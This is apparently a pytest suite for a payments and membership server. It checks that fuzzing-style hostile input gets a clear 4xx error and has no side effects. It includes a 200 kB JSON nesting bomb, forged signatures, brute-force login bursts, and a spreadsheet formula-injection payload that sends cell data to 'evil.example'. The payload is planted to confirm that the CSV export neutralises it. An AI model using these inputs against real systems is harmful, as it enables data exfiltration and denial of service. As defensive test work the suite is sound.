"""Hostile input found by fuzzing: each gets a clear 4xx and changes nothing (issue 13, item 4)."""

import csv
import io
import json
import logging
import socket
import time
import uuid

import pytest
import requests
from support import wait

from floreyn.server import throttle
from floreyn.server.config import Limits
from floreyn.server.db import Database
from floreyn.server.testing import ServerThread, SimTerminal, World

DEEP = b"[" * 100_000 + b"]" * 100_000  # about 200 kB of nesting, no token


@pytest.mark.parametrize("method,path", [
    ("POST", "/v1/admin/members"), ("PATCH", "/v1/admin/config"), ("POST", "/v1/admin/desk/topup"),
    ("PATCH", "/v1/admin/merchants/M-x"), ("POST", "/v1/admin/disputes/d-x/resolve"),
])
def test_deeply_nested_json_is_refused_before_any_parser(srv, method, path):
    resp = requests.request(method, srv.base_url + path, data=DEEP, timeout=30,
                            headers={"Content-Type": "application/json"})
    assert resp.status_code == 422
    body = resp.json()  # a whole answer, not one cut off mid-body
    assert body["error"] == "request_invalid" and "nested deeper than" in body["message"]
    assert requests.get(srv.base_url + "/v1/health", timeout=10).status_code == 200


def forged_get(srv, terminal_id, path):
    return SimTerminal(terminal_id, "M-none").send(srv, "GET", path)  # a key the server never enrolled


def test_non_ascii_path_on_a_terminal_endpoint_is_a_4xx(srv, world):
    term = world.terminal()
    resp = forged_get(srv, term.terminal_id, "/v1/terminal/cards/%C3%A9")
    assert resp.status_code == 401 and resp.json()["error"] == "auth_bad_signature"


def test_unknown_terminal_and_wrong_key_answer_the_same(srv, world):
    term = world.terminal()
    wrong_key = forged_get(srv, term.terminal_id, "/v1/terminal/snapshot")
    unknown = forged_get(srv, "T-nobody-" + uuid.uuid4().hex[:8], "/v1/terminal/snapshot")
    assert wrong_key.status_code == unknown.status_code == 401
    assert wrong_key.json() == unknown.json()


@pytest.mark.parametrize("path", ["/v1/admin/audit", "/v1/admin/alerts", "/v1/admin/accounts/coop:reserve"])
def test_after_above_bigint_is_a_422_naming_the_limit(srv, path):
    body = srv.admin("GET", path, expect=422, after=2**63)
    assert body["error"] == "request_invalid" and str(2**63 - 1) in body["message"]
    assert srv.admin("GET", path, after=2**63 - 1) is not None  # the limit itself is fine


def test_dates_beyond_the_last_report_day_are_a_422_naming_the_limit(srv, world):
    merchant = world.merchant()
    for path, extra in (("/v1/admin/reports/export.csv", {}),
                        ("/v1/admin/reports/settlement", {"merchant_id": merchant})):
        body = srv.admin("GET", path, expect=422, **{"from": "2026-01-01", "to": "9999-12-31", **extra})
        assert body["error"] == "request_invalid" and "2999-12-31" in body["message"]


def test_failed_authentication_is_audited_per_burst_and_rate_limited(tmp_path):
    # Its own database: the counts are kept there (server/throttle.py), and the module's server keeps its own clean.
    url, data = f"sqlite:///{tmp_path / 'limits.db'}", tmp_path / "data"
    limits = Limits(failed_auth_max=20, failed_auth_window_s=60)
    with ServerThread(url, data, limits=limits) as own:
        before = len([e for e in own.admin("GET", "/v1/admin/audit", limit=1000)["entries"] if e["status"] == 401])
        answers = [requests.get(own.base_url + "/v1/admin/members", headers={"Authorization": "Bearer fla_guess"},
                                timeout=10) for _ in range(40)]
        assert [a.status_code for a in answers[:20]] == [401] * 20
        assert all(a.status_code == 429 for a in answers[20:])
        assert answers[-1].json()["error"] == "too_many_failed_auth"
        assert 1 <= int(answers[-1].headers["Retry-After"]) <= 60
        # A right token from the same address waits too: the limit counts the address, not the token.
        late = requests.get(own.base_url + "/v1/admin/members", timeout=10,
                            headers={"Authorization": f"Bearer {own.admin_token}"})
        assert late.status_code == 429
    with ServerThread(url, data, limits=Limits(failed_auth_max=21)) as restarted:
        # The count outlives the process (every process of a server sees it): one failure more is refused.
        assert requests.get(restarted.base_url + "/v1/admin/members", timeout=10,
                            headers={"Authorization": "Bearer fla_guess"}).status_code == 401
        assert requests.get(restarted.base_url + "/v1/admin/members", timeout=10,
                            headers={"Authorization": "Bearer fla_guess"}).status_code == 429
    with ServerThread(url, data) as fresh:  # the default limit (50) lets the right token in again
        rows = [e for e in fresh.admin("GET", "/v1/admin/audit", limit=1000)["entries"] if e["status"] == 401]
        assert len(rows) - before == 1  # one row for the burst of 21, none for the 429s
        assert rows[-1]["detail"]["failed_auth_burst"] == 1


def test_failed_terminal_signatures_count_too(tmp_path):
    with ServerThread(f"sqlite:///{tmp_path / 'limits.db'}", tmp_path / "data", limits=Limits(failed_auth_max=5)) as own:
        codes = [forged_get(own, "T-guess", "/v1/terminal/snapshot").status_code for _ in range(8)]
        assert codes == [401] * 5 + [429] * 3


def test_a_till_with_a_wrong_clock_is_no_failed_authentication(tmp_path):
    # Its signature checks out; it adopts the server's time from the answer (a Pi without a real-time clock
    # after a boot does this once). Forty tills booting behind one address must not use up the limit.
    with ServerThread(f"sqlite:///{tmp_path / 'limits.db'}", tmp_path / "data", limits=Limits(failed_auth_max=2)) as own:
        term = World(own).terminal()
        skewed_ms = int(time.time() * 1000) - 3_600_000
        answers = [requests.get(own.base_url + "/v1/terminal/snapshot", timeout=10, headers=term.signed_headers(
            "GET", "/v1/terminal/snapshot", time_ms=skewed_ms)) for _ in range(4)]
        assert [a.status_code for a in answers] == [401] * 4
        assert {a.json()["error"] for a in answers} == {"auth_clock_skew"}
        assert forged_get(own, "T-guess", "/v1/terminal/snapshot").status_code == 401  # real failures still count


def rows_of(text):
    return list(csv.reader(io.StringIO(text)))


def test_bookkeeping_csv_neutralises_formulas(srv, world):
    member, _ = world.member(eur_cents=1_000)
    top = srv.admin("POST", "/v1/admin/desk/topup", {"member_id": member, "eur_cents": 500})
    reason = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    srv.admin("POST", f"/v1/admin/transactions/{top['tx_id']}/reverse", {"reason": reason})
    today = time.strftime("%Y-%m-%d")
    text = srv.admin("GET", "/v1/admin/reports/export.csv", **{"from": "2026-01-01", "to": "2999-12-31"})
    rows = rows_of(text)
    memos = [r[-1] for r in rows if r[-1].endswith('"klik")')]
    assert memos and all(m == "'" + reason for m in memos)
    amounts = [r[6] for r in rows[1:]]
    assert any(a.startswith("-") for a in amounts)  # numbers stay numbers
    assert today  # the period covers today


def test_erasure_leaves_no_alias_in_the_audit_log_or_stored_answers(srv):
    alias = f"Anna Geheim {uuid.uuid4().hex[:6]}"
    create = {"alias": alias, "name": "Anna", "request_id": uuid.uuid4().hex}
    member = srv.admin("POST", "/v1/admin/members", create)["member_id"]
    srv.admin("PATCH", f"/v1/admin/members/{member}", {"alias": alias + " B."})
    srv.admin("POST", f"/v1/admin/members/{member}/erase", {})
    audit = json.dumps(srv.admin("GET", "/v1/admin/audit", limit=1000))
    assert alias not in audit
    again = srv.admin("POST", "/v1/admin/members", create)  # the stored answer of the first request
    assert again["result"] == "exists" and alias not in json.dumps(again)


def _hung_up(caplog) -> list[logging.LogRecord]:
    return [r for r in caplog.records if r.name == "floreyn.server.access" and r.__dict__.get("route") == "(no route)"]


def test_a_till_that_hangs_up_mid_body_is_no_failed_authentication(tmp_path, caplog):
    # A till whose upload timed out closes its connection, often while the busy server is still reading the
    # body. What arrived is not what was signed; answering it as a bad signature counted a failed
    # authentication for the address, and forty tills behind one address were locked out (429) within a minute.
    url = f"sqlite:///{tmp_path / 'limits.db'}"
    with ServerThread(url, tmp_path / "data", limits=Limits(failed_auth_max=1)) as own:
        term = World(own).terminal()
        body = json.dumps({"records": []}).encode()
        path = "/v1/terminal/upload"
        caplog.set_level(logging.INFO, logger="floreyn.server.access")
        caplog.clear()
        for sent in range(1, 4):
            headers = term.signed_headers("POST", path, body)
            head = "".join(f"{k}: {v}\r\n" for k, v in headers.items())
            with socket.create_connection(("127.0.0.1", own.port), timeout=10) as sock:
                sock.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{head}"
                             f"Content-Length: {len(body)}\r\n\r\n".encode() + body[:5])
            # Wait until the server has seen this hang-up: a shutdown that comes first drops a connection whose
            # bytes were not read yet, and the next request must meet the throttle this one did (or did not) set.
            wait.until(lambda sent=sent: len(_hung_up(caplog)) >= sent, within_s=30, what="the hang-up in the log")
    assert [r.__dict__["status"] for r in _hung_up(caplog)] == [499] * 3  # not logged as a server error
    reopened = Database(url)
    try:
        assert reopened.read(lambda conn: throttle.current(conn, throttle.FAILED_AUTH, "127.0.0.1")) is None
    finally:
        reopened.dispose()
    with ServerThread(url, tmp_path / "data", limits=Limits(failed_auth_max=1)) as again:
        assert World(again).terminal() is not None  # the address is not locked out
        assert forged_get(again, "T-guess", "/v1/terminal/snapshot").status_code == 401
